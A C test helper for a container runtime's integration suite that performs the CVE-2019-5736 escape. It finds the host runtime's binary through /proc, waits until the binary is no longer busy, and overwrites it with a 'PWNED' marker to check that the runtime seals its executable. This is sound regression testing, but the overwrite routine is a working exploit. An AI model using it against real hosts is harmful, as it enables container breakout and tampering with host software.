/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The CVE-2019-5736 attack, run as a container's process by
 * tests/integration/exe_seal.sh (a static binary: the rootfs has no libc).
 *
 *   exe_attack INODE SECONDS
 *
 * Watches /proc for a process whose exe is the file with inode INODE (the
 * runtime binary, once `jfrun exec` has run the container's `#!/proc/self/exe`
 * script), opens that exe read-only, then reopens it for writing until no
 * process executes it any more, and writes "PWNED" over its first bytes.
 * Prints what happened, one line each: "opened /proc/N/exe", then
 * "wrote the runtime binary" or "reopen for writing: <strerror>"; or
 * "never saw the runtime binary" after SECONDS.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* An fd on the exe of a process running the file with inode ino, or -1. */
static int open_runtime_exe(ino_t ino)
{
	DIR *proc = opendir("/proc");
	struct dirent *de;
	char path[sizeof("/proc//exe") + sizeof(de->d_name)];
	struct stat st;
	int fd = -1;

	while (proc != NULL && fd < 0 && (de = readdir(proc)) != NULL) {
		if (de->d_name[0] < '0' || de->d_name[0] > '9' ||
		    atoi(de->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
		if (stat(path, &st) == 0 && st.st_ino == ino) {
			fd = open(path, O_RDONLY);
			printf(fd >= 0 ? "opened %s\n" : "open %s: %s\n", path,
			       strerror(errno));
		}
	}
	if (proc != NULL)
		closedir(proc);
	return fd;
}

int main(int argc, char **argv)
{
	ino_t ino;
	double deadline;
	char path[64];
	int fd = -1;

	if (argc != 3) {
		fprintf(stderr, "usage: exe_attack INODE SECONDS\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	ino = (ino_t)strtoull(argv[1], NULL, 10);
	deadline = now() + atof(argv[2]);
	while (fd < 0 && now() < deadline)
		fd = open_runtime_exe(ino);
	if (fd < 0) {
		printf("never saw the runtime binary\n");
		return 1;
	}
	/* Busy (ETXTBSY) while a jfrun runs it: wait for them to finish. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while (now() < deadline) {
		int w = open(path, O_WRONLY);

		if (w >= 0) {
			if (write(w, "PWNED", 5) == 5)
				printf("wrote the runtime binary\n");
			return 0;
		}
		if (errno != ETXTBSY) {
			printf("reopen for writing: %s\n", strerror(errno));
			return 1;
		}
		usleep(1000);
	}
	printf("reopen for writing: still busy after %s s\n", argv[2]);
	return 1;
}
